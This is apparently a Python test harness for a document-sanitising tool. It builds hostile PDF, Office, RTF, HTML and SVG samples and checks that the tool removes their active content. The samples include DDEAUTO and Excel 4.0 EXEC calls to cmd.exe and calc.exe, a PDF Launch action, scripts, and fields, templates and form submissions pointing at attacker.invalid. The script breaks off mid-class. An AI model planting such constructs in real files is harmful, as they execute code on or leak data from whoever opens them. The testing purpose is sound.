#!/usr/bin/env python3
"""CDR per format over a corpus: every sample through `mugaika clean`, and
each outcome checked by tools that are not mugaika's.

Samples: hostile and clean files built here (PDF with JavaScript, open and
page actions, Launch, SubmitForm, ImportData, an embedded file, rich
media, XFA and a link; docm with VBA, ActiveX, an OLE object, an external
template, DDEAUTO and INCLUDETEXT fields and an altChunk; xlsm with an
Excel 4.0 macro sheet and Auto_Open; pptm with VBA and macro actions; RTF
with an OLE object, a DDE field and a datastore; CSV with formulas; HTML
with scripts; PNG and JPEG with metadata and bytes after their end; SVG
with a script; zip and tar.gz holding those), and, when
../shared/corpus-external/ exists, its documents, images, archives and
TNEF files (MANIFEST.md there says what each one is; the libarchive
samples are uudecoded, the HWP ones base64-decoded, and the documents
inside the oletools password zips unpacked and run too).  No legacy .doc
is built here (Python has no OLE2 writer): the OLE2 module is covered by
the oletools and dangerzone samples.

Per outcome:
 - written (rebuilt or verified): the file parses back with another
   reader (qpdf --check; xml.etree on every OOXML part, no DTD; libvips
   decodes images, vips avg reading every pixel; RTF braces balance; an
   OLE2 reader of our own checks the header and walks the directory); its
   text survives (pdftotext, w:t / a:t / shared strings, CSV cells, RTF
   words, the WordDocument/Workbook/PowerPoint stream of an OLE2 file,
   image dimensions); none of the removed constructs is left in its bytes
   (PDF streams decompressed by qpdf --qdf first, zip members unpacked
   recursively);
 - refused: exit 2, a reason in the report, nothing written; encrypted
   samples refused as `encrypted`;
 - never a crash (exit 75) or a hang.
Then an independent scanner (clamscan, not our engine) runs over every
written output with the test signatures in corpus/signatures: no hit, and
an EICAR control in the same run is found (so the check can fail).

qpdf, vips and clamscan come from scripts/install-deps; each check that
needs one is skipped, and said so, when it is missing."""
import argparse
import base64
import binascii
import concurrent.futures
import csv
import io
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
import xml.etree.ElementTree as ET

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import test_cdr_mode as cm  # noqa: E402  (its sample builders)

FAILS = []
SKIPS = set()
PASSES = [0]


QUIET = [False]


def check(cond, what):
    if cond:
        PASSES[0] += 1
    else:
        if not QUIET[0]:
            print("FAIL " + what)
        FAILS.append(what)
    return cond


def skip(what):
    if what not in SKIPS:
        SKIPS.add(what)
        print("skip " + what)


def have(tool):
    return shutil.which(tool) is not None


# --- samples built here -----------------------------------------------------

class Sample:
    """One file to clean.  expect: "written" (exit 0), "refused" (exit 2),
    "encrypted" (exit 2, reason encrypted) or "any" (0 or 2).  must_remove:
    removal ids the report must list.  clean: a control, so nothing but
    metadata may be removed.  texts: strings that must survive."""

    def __init__(self, label, name, data, expect="written", must_remove=(),
                 clean=False, texts=(), links_kept=True):
        self.label, self.name, self.data = label, name, data
        self.expect, self.must_remove = expect, set(must_remove)
        self.clean, self.texts = clean, list(texts)
        self.links_kept = links_kept


def opc(parts):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            z.writestr(name, data.encode() if isinstance(data, str) else data)
    return b.getvalue()


XMLD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OD_REL = ("http://schemas.openxmlformats.org/officeDocument/2006/"
          "relationships/")
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
OXO = "application/vnd.openxmlformats-officedocument."


def types(defaults, overrides):
    return (XMLD + '<Types xmlns="%s">' % CT_NS +
            "".join('<Default Extension="%s" ContentType="%s"/>' % d
                    for d in defaults) +
            "".join('<Override PartName="%s" ContentType="%s"/>' % o
                    for o in overrides) + "</Types>")


def rels(items):
    out = XMLD + '<Relationships xmlns="%s">' % PKG_REL
    for rid, typ, target, *ext in items:
        out += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ, target, ' TargetMode="External"' if ext else "")
    return out + "</Relationships>"


# A fake compound file: what an OLE object or VBA project starts with.
FAKE_CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + \
    b"Attribute VB_Name AutoOpen Shell calc" * 8
BASE_DEFAULTS = [
    ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
    ("xml", "application/xml")]


def hostile_docm():
    ct = types(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/word/document.xml",
         "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("/word/settings.xml", OXO + "wordprocessingml.settings+xml"),
        ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ("/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
        ("/word/embeddings/oleObject1.bin", OXO + "oleObject"),
        ("/word/afchunk.mht", "message/rfc822")])
    doc = (XMLD + '<w:document xmlns:w="%s" xmlns:r="%s" '
           'xmlns:v="urn:schemas-microsoft-com:vml" '
           'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>'
           '<w:p><w:r><w:t>CORPUS DOCX TEXT BRAVO</w:t></w:r></w:p>'
           '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\'
           'system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
           '<w:r><w:t>DDE FIELD RESULT KEPT</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
           '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://attacker.'
           'invalid/x.docx&quot; "><w:r><w:t>INCLUDE RESULT KEPT</w:t></w:r>'
           '</w:fldSimple></w:p>'
           '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" '
           'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" '
           'r:id="rId5"/></w:object></w:r></w:p>'
           '<w:p><w:r><w:object><w:control r:id="rId6" '
           'w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object>'
           '</w:r></w:p>'
           '<w:altChunk r:id="rId7"/>'
           '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>link text</w:t></w:r>'
           '</w:hyperlink></w:p>'
           '</w:body></w:document>' % (cm.W, cm.R))
    return opc([
        ("[Content_Types].xml", ct),
        ("_rels/.rels", rels([("rId1", OD_REL + "officeDocument",
                               "word/document.xml")])),
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", MS_REL + "vbaProject", "vbaProject.bin"),
            ("rId2", OD_REL + "settings", "settings.xml"),
            ("rId5", OD_REL + "oleObject", "embeddings/oleObject1.bin"),
            ("rId6", OD_REL + "control", "activeX/activeX1.xml"),
            ("rId7", OD_REL + "aFChunk", "afchunk.mht"),
            ("rId9", OD_REL + "hyperlink", "https://example.com/x", 1)])),
        ("word/settings.xml", XMLD + '<w:settings xmlns:w="%s" xmlns:r="%s">'
         '<w:attachedTemplate r:id="rId1"/></w:settings>' % (cm.W, cm.R)),
        ("word/_rels/settings.xml.rels", rels([
            ("rId1", OD_REL + "attachedTemplate",
             "http://attacker.invalid/t.dotm", 1)])),
        ("word/activeX/activeX1.xml", XMLD +
         '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
         'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
         'ax:persistence="persistStorage" r:id="rId1"/>' % cm.R),
        ("word/activeX/_rels/activeX1.xml.rels", rels([
            ("rId1", MS_REL + "activeXControlBinary", "activeX1.bin")])),
        ("word/activeX/activeX1.bin", FAKE_CFB),
        ("word/embeddings/oleObject1.bin", FAKE_CFB),
        ("word/afchunk.mht", "MIME-Version: 1.0\r\nContent-Type: text/html"
         "\r\n\r\n<html><script>alert(1)</script>chunk</html>\r\n"),
        ("word/vbaProject.bin", FAKE_CFB),
    ])


XL_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def hostile_xlsm():
    ct = types(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/xl/workbook.xml",
         "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("/xl/worksheets/sheet1.xml", OXO + "spreadsheetml.worksheet+xml"),
        ("/xl/macrosheets/sheet1.xml",
         "application/vnd.ms-excel.macrosheet+xml"),
        ("/xl/sharedStrings.xml", OXO + "spreadsheetml.sharedStrings+xml")])
    wb = (XMLD + '<workbook xmlns="%s" xmlns:r="%s"><sheets>'
          '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
          '<sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets>'
          '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">'
          'Macro1!$A$1</definedName></definedNames></workbook>'
          % (XL_MAIN, cm.R))
    sheet = (XMLD + '<worksheet xmlns="%s"><sheetData><row r="1">'
             '<c r="A1" t="s"><v>0</v></c><c r="B1"><v>42</v></c></row>'
             '</sheetData></worksheet>' % XL_MAIN)
    macro = (XMLD + '<xm:macrosheet xmlns="%s" '
             'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
             '</row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
             '</xm:macrosheet>' % XL_MAIN)
    sst = (XMLD + '<sst xmlns="%s" count="1" uniqueCount="1"><si>'
           '<t>CORPUS XLSX TEXT CHARLIE</t></si></sst>' % XL_MAIN)
    return opc([
        ("[Content_Types].xml", ct),
        ("_rels/.rels", rels([("rId1", OD_REL + "officeDocument",
                               "xl/workbook.xml")])),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels([
            ("rId1", OD_REL + "worksheet", "worksheets/sheet1.xml"),
            ("rId2", MS_REL + "xlMacrosheet", "macrosheets/sheet1.xml"),
            ("rId3", OD_REL + "sharedStrings", "sharedStrings.xml"),
            ("rId4", MS_REL + "vbaProject", "vbaProject.bin")])),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/macrosheets/sheet1.xml", macro),
        ("xl/sharedStrings.xml", sst),
        ("xl/vbaProject.bin", FAKE_CFB),
    ])


P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def hostile_pptm():
    ct = types(BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")], [
        ("/ppt/presentation.xml",
         "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        ("/ppt/slides/slide1.xml", OXO + "presentationml.slide+xml")])
    pres = (XMLD + '<p:presentation xmlns:p="%s" xmlns:r="%s">'
            '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/>'
            '<p:notesSz cx="6858000" cy="9144000"/></p:presentation>'
            % (P_NS, cm.R))
    slide = (XMLD + '<p:sld xmlns:p="%s" xmlns:a="%s" xmlns:r="%s">'
             '<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
             '<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
             '<p:sp><p:nvSpPr><p:cNvPr id="2" name="T">'
             '<a:hlinkClick r:id="" action="ppaction://macro?name=Auto"/>'
             '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
             '<p:txBody><a:bodyPr/><a:p><a:r><a:rPr>'
             '<a:hlinkClick r:id="rId1" action="ppaction://program"/>'
             '</a:rPr><a:t>CORPUS PPTX TEXT DELTA</a:t></a:r></a:p>'
             '</p:txBody></p:sp></p:spTree></p:cSld></p:sld>'
             % (P_NS, A_NS, cm.R))
    return opc([
        ("[Content_Types].xml", ct),
        ("_rels/.rels", rels([("rId1", OD_REL + "officeDocument",
                               "ppt/presentation.xml")])),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels([
            ("rId1", MS_REL + "vbaProject", "vbaProject.bin"),
            ("rId2", OD_REL + "slide", "slides/slide1.xml")])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", rels([
            ("rId1", OD_REL + "hyperlink", "file:///c:/windows/calc.exe",
             1)])),
        ("ppt/vbaProject.bin", FAKE_CFB),
    ])


def clean_docx():
    ct = types(BASE_DEFAULTS, [
        ("/word/document.xml", OXO + "wordprocessingml.document.main+xml")])
    doc = (XMLD + '<w:document xmlns:w="%s" xmlns:r="%s"><w:body>'
           '<w:p><w:r><w:t>清書された本文 CORPUS CLEAN DOCX</w:t></w:r></w:p>'
           '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>https link</w:t></w:r>'
           '</w:hyperlink></w:p></w:body></w:document>' % (cm.W, cm.R))
    return opc([
        ("[Content_Types].xml", ct),
        ("_rels/.rels", rels([("rId1", OD_REL + "officeDocument",
                               "word/document.xml")])),
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", rels([
            ("rId9", OD_REL + "hyperlink", "https://example.com/", 1)])),
    ])


def pdf_file(objs, root=1, info=None):
    """A PDF from object bodies (1-based), xref offsets exact."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n"
              b"%%%%EOF\n" % (len(objs) + 1, root,
                              b" /Info %d 0 R" % info if info else b"", x))
    return out.getvalue()


def stream(dict_body, data):
    return (b"<< %s /Length %d >>\nstream\n" % (dict_body, len(data)) + data +
            b"\nendstream")


def hostile_pdf():
    content = b"BT /F1 20 Tf 72 700 Td (CORPUS PDF TEXT ALPHA) Tj ET"
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>'
    objs = [
        # 1 catalog
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R "
        b"/AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> "
        b"/EmbeddedFiles << /Names [(x.txt) 9 0 R] >> >> "
        b"/AcroForm << /Fields [12 0 R] /XFA 13 0 R >> >>",
        # 2 pages
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        # 3 page
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 8 0 R >> >> /Contents 4 0 R "
        b"/Annots [10 0 R 11 0 R 12 0 R] /AA << /O 7 0 R >> >>",
        # 4 content
        stream(b"", content),
        # 5 open action: Launch
        b"<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> "
        b"/Next 6 0 R >>",
        # 6 JavaScript
        b"<< /S /JavaScript /JS (app.alert\\('corpus'\\)) >>",
        # 7 SubmitForm
        b"<< /S /SubmitForm /F << /FS /URL /F (http://attacker.invalid/s) >> >>",
        # 8 font
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        # 9 file spec with an embedded file
        b"<< /Type /Filespec /F (x.txt) /UF (x.txt) /EF << /F 14 0 R >> >>",
        # 10 a link that stays (https)
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
        b"/A << /S /URI /URI (https://example.com/doc) >> >>",
        # 11 rich media
        b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 560] "
        b"/RichMediaContent << /Assets << /Names [] >> >> >>",
        # 12 a button that imports data
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) "
        b"/Rect [72 400 200 420] /P 3 0 R /A << /S /ImportData /F (d.fdf) >> >>",
        # 13 XFA
        stream(b"", xfa),
        # 14 the embedded file
        stream(b"/Type /EmbeddedFile", b"embedded corpus payload\n"),
        # 15 info
        b"<< /Author (corpus-secret-author) >>",
    ]
    return pdf_file(objs, info=15)


def clean_pdf():
    content = b"BT /F1 20 Tf 72 700 Td (CORPUS CLEAN PDF) Tj ET"
    return pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        stream(b"", content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def hostile_rtf():
    return (b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 CORPUS RTF TEXT ECHO\\par"
            b"{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
            b" \"/k calc.exe\"}{\\fldrslt DDE RESULT KEPT}}\\par"
            b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
            b"0105000002000000080000005061636b61676500000000000000000000}"
            b"{\\result {\\pict\\wmetafile8\\picw10\\pich10 0100}}}\\par"
            b"{\\*\\datastore 0105000002000000180000004d73786d6c322e534158584d4c}"
            b"\\par tail words\\par}")


def hostile_html():
    return ("<html><head><title>t</title><script>alert('corpus')</script>"
            "</head><body onload=\"steal()\"><p>CORPUS HTML TEXT FOXTROT "
            "日本語の段落</p><a href=\"javascript:alert(2)\">click</a>"
            "<iframe src=\"http://attacker.invalid/\"></iframe>"
            "<img src=x onerror=\"alert(3)\"></body></html>").encode()


def hostile_svg():
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
            b'xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30"'
            b' onload="alert(1)"><script>alert(2)</script>'
            b'<rect width="40" height="30" fill="#08f"/>'
            b'<a xlink:href="javascript:alert(3)"><circle cx="20" cy="15" r="5"/>'
            b'</a><foreignObject width="10" height="10"><p xmlns="http://www.w3.org'
            b'/1999/xhtml">x</p></foreignObject></svg>')


def hostile_png():
    raw = b"".join(b"\x00" + b"\x10\x80\xf0" * 6 for _ in range(5))
    c = cm.png_chunk
    return (b"\x89PNG\r\n\x1a\n" +
            c(b"IHDR", struct.pack(">IIBBBBB", 6, 5, 8, 2, 0, 0, 0)) +
            c(b"tEXt", b"Comment\x00corpus-text-chunk") +
            c(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta/>") +
            c(b"eXIf", b"MM\x00\x2a\x00\x00\x00\x08\x00\x00") +
            c(b"IDAT", zlib.compress(raw)) + c(b"IEND", b"") +
            b"PK\x03\x04trailing-after-iend")


def jpeg_segment(marker, payload):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + \
        payload


def hostile_jpeg():
    """An 8x8 grey baseline JPEG written by hand: one block whose DC
    difference and AC coefficients are all zero, with Huffman tables of
    one code each (ITU T.81 Annex C: a single code of length 1, "0"), an
    Exif APP1, a comment, and bytes after EOI."""
    dqt = jpeg_segment(0xDB, b"\x00" + b"\x01" * 64)
    sof = jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", 8, 8) +
                       b"\x01" + b"\x01\x11\x00")
    counts = b"\x01" + b"\x00" * 15
    dht = jpeg_segment(0xC4, b"\x00" + counts + b"\x00" +
                       b"\x10" + counts + b"\x00")
    sos = jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    exif = jpeg_segment(0xE1, b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x00"
                        b"corpus-exif-secret")
    com = jpeg_segment(0xFE, b"corpus-jpeg-comment")
    jfif = jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    # Scan data: DC category 0 ("0"), EOB ("0"), padded with ones.
    return (b"\xff\xd8" + jfif + exif + com + dqt + sof + dht + sos +
            b"\x3f" + b"\xff\xd9" + b"trailing-after-eoi")


def csv_plain():
    return "品名,数量\r\nりんご,3\r\n-5,text\r\n".encode("utf-8")


def zip_of(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members:
            z.writestr(n, d)
    return b.getvalue()


def targz_of(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            ti.mtime = 1700000000
            t.addfile(ti, io.BytesIO(d))
    return b.getvalue()


def generated():
    docm = hostile_docm()
    pdf = hostile_pdf()
    rtf = hostile_rtf()
    png = hostile_png()
    html = hostile_html()
    inner = zip_of([("inner/report.docm", docm), ("inner/page.pdf", pdf)])
    members = [("資料/報告書.docm", docm), ("資料/資料.pdf", pdf),
               ("memo.rtf", rtf), ("画像.png", png), ("page.html", html),
               ("nested.zip", inner)]
    s = [
        Sample("gen pdf", "hostile.pdf", pdf,
               must_remove={"javascript", "auto_actions", "embedded_files",
                            "multimedia", "xfa_forms", "actions"},
               texts=["CORPUS PDF TEXT ALPHA"]),
        Sample("gen pdf (test_cdr_mode)", "資料.pdf", cm.pdf_with_js(),
               must_remove={"javascript", "auto_actions"},
               texts=["HELLO CDR PAGE"]),
        Sample("gen pdf clean", "clean.pdf", clean_pdf(), clean=True,
               texts=["CORPUS CLEAN PDF"]),
        Sample("gen docm", "hostile.docm", docm,
               must_remove={"vba_macros", "activex", "ole_objects",
                            "attached_template", "dde_fields"},
               texts=["CORPUS DOCX TEXT BRAVO", "DDE FIELD RESULT KEPT",
                      "INCLUDE RESULT KEPT", "link text"]),
        Sample("gen docm (test_cdr_mode)", "報告書.docm", cm.docm(),
               must_remove={"vba_macros", "attached_template"},
               texts=["CDR本文テキスト"]),
        Sample("gen docx clean", "clean.docx", clean_docx(), clean=True,
               texts=["清書された本文 CORPUS CLEAN DOCX"]),
        Sample("gen xlsm", "hostile.xlsm", hostile_xlsm(),
               must_remove={"xlm_macros", "vba_macros"},
               texts=["CORPUS XLSX TEXT CHARLIE"]),
        Sample("gen pptm", "hostile.pptm", hostile_pptm(),
               must_remove={"vba_macros"}, texts=["CORPUS PPTX TEXT DELTA"]),
        Sample("gen rtf", "hostile.rtf", rtf,
               must_remove={"ole_objects", "dde_fields"},
               texts=["CORPUS RTF TEXT ECHO", "DDE RESULT KEPT", "tail words"]),
        Sample("gen rtf (test_cdr_mode)", "memo.rtf", cm.rtf_with_object(),
               must_remove={"ole_objects"}, texts=["RTF body text"]),
        Sample("gen csv", "一覧.csv", cm.csv_with_dde(),
               must_remove={"formulas"}, texts=["山田", "100"]),
        Sample("gen csv plain", "plain.csv", csv_plain(),
               texts=["品名", "りんご"]),
        Sample("gen html", "page.html", html, must_remove={"scripts"},
               texts=["CORPUS HTML TEXT FOXTROT", "日本語の段落"]),
        Sample("gen txt", "note.txt", "メモ CORPUS TEXT GOLF\n".encode(),
               clean=True, texts=["メモ CORPUS TEXT GOLF"]),
        Sample("gen png", "写真.png", png,
               must_remove={"metadata", "trailing_data"}),
        Sample("gen png (test_cdr_mode)", "a.png", cm.png_with_text(),
               must_remove={"metadata"}),
        Sample("gen jpeg", "photo.jpg", hostile_jpeg(),
               must_remove={"metadata", "trailing_data"}),
        Sample("gen svg", "drawing.svg", hostile_svg(),
               must_remove={"scripts"}),
        Sample("gen zip", "bundle.zip", zip_of(members)),
        Sample("gen tar.gz", "bundle.tar.gz", targz_of(members)),
    ]
    return s


# --- the external corpus ----------------------------------------------------

# (pattern on the path under corpus-external, expect, must_remove, clean);
# the first match wins.  From MANIFEST.md: encrypted files are refused as
# encrypted; the clean controls may lose metadata only; where the manifest
# names a rebuild that the modules do, the removal is required; where it
# allows alternatives (quarantine or rebuild) any verdict but a crash is
# accepted and the outcome's own checks apply.
EXT_RULES = [
    (r"^oletools/encrypted/", "encrypted", (), False),
    (r"^oletools/basic/encrypted\.docx$", "encrypted", (), False),
    (r"^oletools/(msodde|rtfobj)/.*\.zip$", "encrypted", (), False),
    (r"^libarchive/.*(encryption|winzip_aes).*", "encrypted", (), False),
    (r"^oletools/basic/text$", "written", (), True),
    (r"^oletools/msodde/dde-test\.(docx|docm)$", "written", {"dde_fields"},
     False),
    (r"^oletools/msodde/dde-test\.(xlsx|xlsm)$", "written", {"dde_fields"},
     False),
    (r"^oletools/msodde/harmless-clean\.(doc|docx|docm)$", "written", (),
     True),
    (r"^oletools/msodde/dde-in-csv\.csv$", "written", {"formulas"}, False),
    (r"^oletools/oleform/", "written", {"vba_macros"}, False),
    (r"^oletools/oleobj/embedded-simple-2007\.(doc|dot)[xm]?$", "written",
     {"ole_objects"}, False),
    (r"^oletools/oleobj/embedded-simple-2007\.(pp[ts]|pot|xl[st])[xm]$",
     "written", {"ole_objects"}, False),
    (r"^oletools/oleobj/embedded-unicode", "written", {"ole_objects"}, False),
    (r"^oletools/oleobj/sample_with_(calc_embedded|lnk_file|lnk_to_calc)\.doc$",
     "written", {"ole_objects"}, False),
    (r"^oletools/oleobj/external_link/.*\.(do|pp|po|xl)[a-z][xm]$",
     "written", {"external_links"}, False),
    (r"^oletools/oleobj/embedded-simple-2007\.od[tsp]$", "written",
     {"ole_objects"}, False),
    (r"^oletools/excel4-macros/.*\.(xlsm|xltm)$", "written", {"xlm_macros"},
     False),
    (r"^oletools/rtfobj/issue_251\.rtf$", "written", {"ole_objects"}, False),
    (r"^dangerzone/sample-(docx|docm|pptx|xlsx|pdf|png|jpg|gif|bmp|doc|ppt|"
     r"xls|svg)\.", "written", (), True),
    (r"^dangerzone/sample-mime-octet-stream\.xls$", "written", (), True),
    # ODF (cdr_odf): the clean controls, the templates under .odt/.ods,
    # and the ODT whose video goes.
    (r"^dangerzone/sample-(odt|ods|odp|odg)\.", "written", (), True),
    (r"^dangerzone/sample-mime-(text|spreadsheet)-template\.od[ts]$",
     "written", (), True),
    (r"^dangerzone/sample-odt-mp4\.odt$", "written", {"multimedia"}, False),
    (r"^dangerzone/sample-11k-pages", "refused", (), False),
    (r"^pycirclean/normal/(rich_text\.rtf|word_docx\.docx|zip_archive\.zip)$",
     "written", (), True),
    (r"^pycirclean/dangerous/Example\.svg$", "written", (), True),
    (r"", "any", (), False),
]


def ext_rule(rel):
    for pat, expect, rm, clean in EXT_RULES:
        if re.search(pat, rel):
            return expect, set(rm), clean
    return "any", set(), False


def uudecode(text):
    out = bytearray()
    name = None
    for line in text.splitlines():
        if name is None:
            if line.startswith("begin "):
                name = line.split(None, 2)[2].strip()
            continue
        if line.strip() == "end":
            break
        if not line.strip():
            continue
        try:
            out += binascii.a2b_uu(line)
        except binascii.Error:
            # Some encoders pad short lines differently (Python's uu did
            # the same).
            nbytes = (((ord(line[0]) - 32) & 63) * 4 + 5) // 3
            out += binascii.a2b_uu(line[:nbytes])
    return name, bytes(out)


def external(root):
    samples = []
    for dirpath, dirs, files in os.walk(root):
        dirs.sort()
        for f in sorted(files):
            path = os.path.join(dirpath, f)
            rel = os.path.relpath(path, root)
            if rel in ("MANIFEST.md", "SHA256SUMS"):
                continue
            data = open(path, "rb").read()
            name = f
            if f.endswith(".uu"):
                name, data = uudecode(data.decode("latin-1"))
                name = name or f[:-3]
            elif f.endswith(".b64"):
                data = base64.b64decode(data)
                name = f[:-4]
            elif rel == "pycirclean/dangerous/testRTL_U202E_exe.txt":
                name = "testRTL\u202eexe.txt"
            expect, rm, clean = ext_rule(rel)
            samples.append(Sample("ext " + rel, name, data, expect, rm, clean))
            # The oletools password zips: as delivered they are encrypted
            # archives (above); the documents inside are run too.
            if re.search(r"^oletools/(msodde|rtfobj)/.*\.zip$", rel):
                try:
                    with zipfile.ZipFile(io.BytesIO(data)) as z:
                        for n in z.namelist():
                            samples.append(Sample(
                                "ext %s!%s" % (rel, n), os.path.basename(n),
                                z.read(n, pwd=b"infected-test"), "any"))
                except (zipfile.BadZipFile, RuntimeError) as e:
                    check(False, "%s: cannot unpack with the manifest's "
                          "password: %s" % (rel, e))
    return samples


# --- readers used by the checks ----------------------------------------------

def sniff(data):
    if data.startswith(b"%PDF"):
        return "pdf"
    if data.startswith(b"PK\x03\x04") or data.startswith(b"PK\x05\x06"):
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                names = z.namelist()
                if "[Content_Types].xml" in names:
                    return "ooxml"
                if "mimetype" in names and z.read("mimetype").startswith(
                        b"application/vnd.oasis.opendocument."):
                    return "odf"
                return "zip"
        except (zipfile.BadZipFile, RuntimeError, NotImplementedError):
            return "badzip"
    if data.startswith(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
        return "ole2"
    if data.startswith(b"\x89PNG\r\n\x1a\n"):
        return "png"
    if data.startswith(b"\xff\xd8\xff"):
        return "jpeg"
    if data.startswith((b"II*\x00", b"MM\x00*")):
        return "tiff"
    if data.startswith(b"{\\rtf"):
        return "rtf"
    return "text"


def run(args, **kw):
    return subprocess.run(args, capture_output=True, timeout=kw.pop(
        "timeout", 120), **kw)


def pdftext(path):
    r = run(["pdftotext", "-q", "-enc", "UTF-8", path, "-"])
    return " ".join(r.stdout.decode("utf-8", "replace").split())


class Ole2:
    """A small [MS-CFB] reader: header (2.2), FAT through the DIFAT
    (2.3-2.5), directory (2.6), mini stream (2.3).  It raises ValueError on
    anything out of place; bounded by the file size."""

    def __init__(self, data):
        self.d = data
        if len(data) < 512 or data[:8] != b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1":
            raise ValueError("no compound file signature")
        (minor, major, bom, sshift, mshift) = struct.unpack_from(
            "<HHHHH", data, 24)
        if bom != 0xFFFE:
            raise ValueError("byte order mark %#x" % bom)
